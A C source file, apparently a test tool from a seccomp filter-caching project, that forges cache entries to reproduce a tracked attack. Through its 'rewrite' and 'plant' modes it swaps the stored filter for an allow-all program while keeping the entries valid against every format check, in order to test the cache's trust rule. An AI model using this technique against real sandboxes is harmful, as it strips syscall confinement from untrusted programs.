/* SPDX-License-Identifier: Apache-2.0 */
/*
 * The attack of issue 13, as a confined program would make it: replace the
 * program of filter cache entries by one that allows everything, keeping
 * each header (key, arch, profile digest) and fixing the program digest,
 * with the cache's own format code, so the entries pass every check of
 * the format.  Only the trust rule (conf/cache.c) can refuse them.
 *
 *   cache_forge rewrite FILE...       rewrite existing entries in place
 *                                     (same inode, owner and mode)
 *   cache_forge plant DIR PROFILE     write the entry that the next process
 *                                     with this profile, this process's
 *                                     permitted capabilities and the
 *                                     preload's options would look up
 *
 * One line per entry on stdout; exit 0, 1 on a failure, 2 on misuse.
 */
#include <errno.h>
#include <fcntl.h>
#include <linux/filter.h>
#include <linux/seccomp.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include "cache.h"
#include "resolve.h"
#include "compiled.h"
#include "io.h"
#include "pipeline.h"

static struct sock_filter allow_all[] = {
	BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
};

/* Header of info, allow-all program, written over path (O_TRUNC). */
static int forge(const char *path, const struct sc_compiled_info *info,
		 uint32_t flags, int oflags)
{
	struct sc_bpf b = { .insns = allow_all, .len = 1, .flags = flags };
	struct sc_buf out = { 0 };
	struct sc_error e = { 0 };
	int fd, r = 1;

	if (sc_compiled_write(info, &b, &out, &e) < 0) {
		fprintf(stderr, "cache_forge: %s\n", e.msg);
		return 1;
	}
	fd = open(path, O_WRONLY | O_TRUNC | O_CLOEXEC | oflags, 0600);
	if (fd >= 0 && write(fd, out.p, out.len) == (ssize_t)out.len &&
	    close(fd) == 0) {
		printf("forged %s\n", path);
		r = 0;
	} else {
		perror(path);
	}
	sc_buf_free(&out);
	return r;
}

static int rewrite(const char *path)
{
	struct sc_compiled_info info;
	struct sc_error e = { 0 };
	struct sc_bpf *b = NULL;
	char *buf = NULL;
	size_t len = 0;
	uint32_t flags;

	if (sc_read_file(path, &buf, &len, &e) < 0 ||
	    sc_compiled_parse(buf, len, path, &info, &b, &e) < 0) {
		fprintf(stderr, "cache_forge: %s: %s\n", path, e.msg);
		free(buf);
		return 1;
	}
	flags = b->flags;
	sc_bpf_free(b);
	free(buf);
	return forge(path, &info, flags, 0);
}

static int plant(const char *dir, const char *profile)
{
	struct sc_compile_opts o = { .tsync = true }; /* as the preload */
	struct sc_pipeline_cache c;
	struct sc_pipeline_src src;
	struct sc_target t = { 0 };
	struct sc_error e = { 0 };
	char name[65], path[4096];
	int r;

	if (sc_capset_of_self(SC_CAPS_PERMITTED, &t.caps, &e) < 0 ||
	    sc_pipeline_read(profile, &src, &e) < 0) {
		fprintf(stderr, "cache_forge: %s\n", e.msg);
		return 1;
	}
	r = sc_pipeline_cache_key(&c, &src, &t, &o);
	sc_pipeline_src_free(&src);
	if (r < 0)
		return 1;
	sc_sha256_hex(c.key, name);
	snprintf(path, sizeof(path), "%s/%s", dir, name);
	unlink(path);
	return forge(path, &c.info, SECCOMP_FILTER_FLAG_TSYNC,
		     O_CREAT | O_EXCL);
}

int main(int argc, char **argv)
{
	int r = 0;

	if (argc >= 3 && strcmp(argv[1], "rewrite") == 0) {
		for (int i = 2; i < argc; i++)
			r |= rewrite(argv[i]);
		return r;
	}
	if (argc == 4 && strcmp(argv[1], "plant") == 0)
		return plant(argv[2], argv[3]);
	fprintf(stderr, "usage: cache_forge rewrite FILE... | plant DIR PROFILE\n");
	return 2;
}
